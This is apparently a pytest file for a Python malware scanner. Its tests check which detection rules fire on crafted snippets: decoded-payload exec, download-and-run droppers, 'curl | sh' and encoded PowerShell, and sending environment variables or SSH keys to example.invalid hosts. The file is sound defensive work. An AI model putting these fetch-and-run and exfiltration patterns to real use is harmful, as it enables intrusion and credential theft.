"""The Python analyzer on small crafted modules: each rule fires on its technique and stays
quiet on the ordinary code that resembles it."""

from __future__ import annotations

import textwrap

import pytest

from warehouse.scanning.analyzers import python
from warehouse.scanning.analyzers.python import analyze_python, worth_parsing


def found(rules, source: str, context: str = "runtime") -> set[str]:
    code = textwrap.dedent(source).encode()
    return {f.rule for f in analyze_python(code, "m.py", context, rules, triage=False)}


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import base64 as b\nx = b.b64decode('cHJpbnQoMSk=')\nexec(x)",
        "from base64 import b64decode as d\neval(compile(d('eA=='), 'f', 'eval'))",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
        "exec(bytes.fromhex('7072696e742831'))",
        "exec(''.join(chr(c) for c in [112, 114]))",
        "exec('1 tnirp'[::-1] + 'abcdefghijklmnopqrstuvwxyz'[::-1])",
        "__import__('builtins').exec(__import__('base64').b64decode('eA=='))",
        "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode('eA=='))",
    ],
)
def test_exec_of_decoded_data(rules, source):
    assert "py-exec-decoded" in found(rules, source)


def test_exec_of_downloaded_code(rules):
    assert "py-exec-downloaded" in found(
        rules, "import requests\nexec(requests.get('https://example.invalid').text)"
    )
    assert "py-exec-downloaded" in found(
        rules, "import urllib.request as u\nexec(u.urlopen('https://example.invalid').read())"
    )


def test_marshal_of_embedded_bytecode(rules):
    assert "py-marshal-load" in found(
        rules, "import marshal, base64\nmarshal.loads(base64.b64decode('eA=='))"
    )


def test_decode_chain_of_a_long_literal(rules):
    blob = "A" * 300
    assert "py-decode-chain" in found(
        rules, f"import zlib, base64\nzlib.decompress(base64.b64decode('{blob}'))"
    )


def test_ordinary_dynamic_code_is_a_capability_not_a_threat(rules):
    assert found(rules, "import re\nre.compile('x')\nmodel.eval()\nexec(source_text)") == {
        "py-exec-dynamic"
    }
    # exec of a literal, or of a project file (the classic version read in setup.py): nothing.
    assert found(rules, "exec('x = 1')") == set()
    assert found(rules, "exec(open('pkg/version.py').read())", "install") == set()


def test_subprocess_and_shell_downloads(rules):
    assert found(rules, "import subprocess\nsubprocess.run(['ls', path])") == {"py-subprocess"}
    assert "py-shell-download" in found(
        rules, "import os\nos.system('curl -s https://example.invalid/x | sh')"
    )
    assert "py-shell-download" in found(
        rules, "import subprocess\nsubprocess.Popen('powershell -enc AAAA', shell=True)"
    )
    # The decoded data is in the environment, not the command: not exec of decoded data.
    assert "py-exec-decoded" not in found(
        rules,
        "import os, base64\nenv = {'A': base64.b64decode(x)}\nos.execve('/bin/true', [], env)",
    )


def test_download_then_run_in_one_function_is_a_dropper(rules):
    source = """
    import os, subprocess, urllib.request
    def go():
        urllib.request.urlretrieve('https://example.invalid/x', '/tmp/x')
        os.chmod('/tmp/x', 0o755)
        subprocess.Popen(['/tmp/x'])
    """
    assert "py-download-execute" in found(rules, source)
    apart = """
    import subprocess, urllib.request
    def fetch():
        data = urllib.request.urlopen('https://example.invalid/img').read()
        open('/tmp/img', 'wb').write(data)
    def version():
        return subprocess.check_output(['paperconf'])
    """
    assert "py-download-execute" not in found(rules, apart)


def test_exfiltration_of_environment_and_keys(rules):
    assert "py-exfiltration" in found(
        rules,
        "import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))",
    )
    source = """
    import os, socket
    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
    s = socket.socket()
    s.sendall(key.encode())
    """
    assert "py-exfiltration" in found(rules, source)
    assert "py-exfiltration" in found(
        rules,
        "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.example.invalid')",
    )


def test_reading_one_variable_or_copying_the_environment_is_ordinary(rules):
    source = """
    import os, requests, subprocess
    env = os.environ.copy()
    subprocess.run(['git', 'status'], env=env)
    requests.get(url, headers={'Authorization': os.environ['TOKEN']})
    """
    assert "py-exfiltration" not in found(rules, source)


def test_capabilities(rules):
    assert "py-network" in found(rules, "import socket\nsocket.create_connection(('h', 1))")
    assert "py-pickle" in found(rules, "import pickle\npickle.loads(data)")
    assert "py-ctypes" in found(rules, "import ctypes\nctypes.CDLL('libc.so.6')")
    assert "py-sensitive-read" in found(
        rules, "import os\nopen(os.path.expanduser('~/.aws/credentials'))"
    )


def test_install_context_flags_what_setup_py_does_beyond_building(rules):
    assert "py-install-hook" in found(
        rules, "import urllib.request\nurllib.request.urlopen('https://example.invalid')", "install"
    )
    # Build tools run from setup.py are building.
    assert (
        found(rules, "import subprocess\nsubprocess.check_call(['cmake', '..'])", "install")
        == set()
    )
    assert (
        found(
            rules,
            "import subprocess, sys\ncmd = [sys.executable, '-m', 'x']\nsubprocess.check_call(cmd)",
            "install",
        )
        == set()
    )
    assert "py-install-hook" in found(
        rules, "import subprocess\nsubprocess.check_call(cmd)", "install"
    )


def test_unparsable_source_is_reported_not_raised(rules):
    assert found(rules, "exec(base64.b64decode(", "install") == {"py-syntax-error"}


def test_triage_skips_modules_that_cannot_hold_a_threat(rules):
    capability_only = b"import subprocess\nsubprocess.run(['ls'])\n"
    assert analyze_python(capability_only, "m.py", "runtime", rules) == []
    assert analyze_python(capability_only, "setup.py", "install", rules) != []
    assert not worth_parsing(b"import re\nPATTERN = re.compile('x')\nimport subprocess\n")
    assert worth_parsing(b"import base64\nexec(base64.b64decode(x))")
    assert worth_parsing(b"import os, requests\nrequests.post(u, data=os.environ)")


_TRIAGE_SAMPLES = [
    b"import re\nPATTERN = re.compile('x')\n",
    b"import base64\nexec(base64.b64decode(x))",
    b"import os, requests\nrequests.post(u, data=os.environ)",
    b"import subprocess\nsubprocess.call('curl http://x | sh', shell=True)",
    b"import marshal\nmarshal.loads(b'')",
    b"# exec(x) in a comment, x.exec(y), obj.eval(z)\nimport zlib\nzlib.decompress(d)",
    b'url = "https://example.org/setup.sh"\nimport os\nos.system(url)',
    "s = 'caf\xe9 \u2603 exec('\nimport subprocess".encode(),
]


@pytest.mark.parametrize("source", _TRIAGE_SAMPLES)
def test_triage_words_found_in_one_pass_are_the_words_present(source):
    one_pass = python.words_present(source)
    word_by_word = {n for n, words in python._WORD_LISTS.items() if python._has(source, words)}
    assert one_pass == word_by_word


def test_triage_answers_the_same_when_yara_refuses_the_module(monkeypatch):
    import yara

    expected = [worth_parsing(source) for source in _TRIAGE_SAMPLES]
    assert expected.count(True) >= 4

    class Refusing:
        def match(self, **kwargs):
            raise yara.Error("internal error: 30")  # too many matches

    monkeypatch.setattr(python, "_word_scanner", lambda: (Refusing(), yara.Error))
    assert [worth_parsing(source) for source in _TRIAGE_SAMPLES] == expected
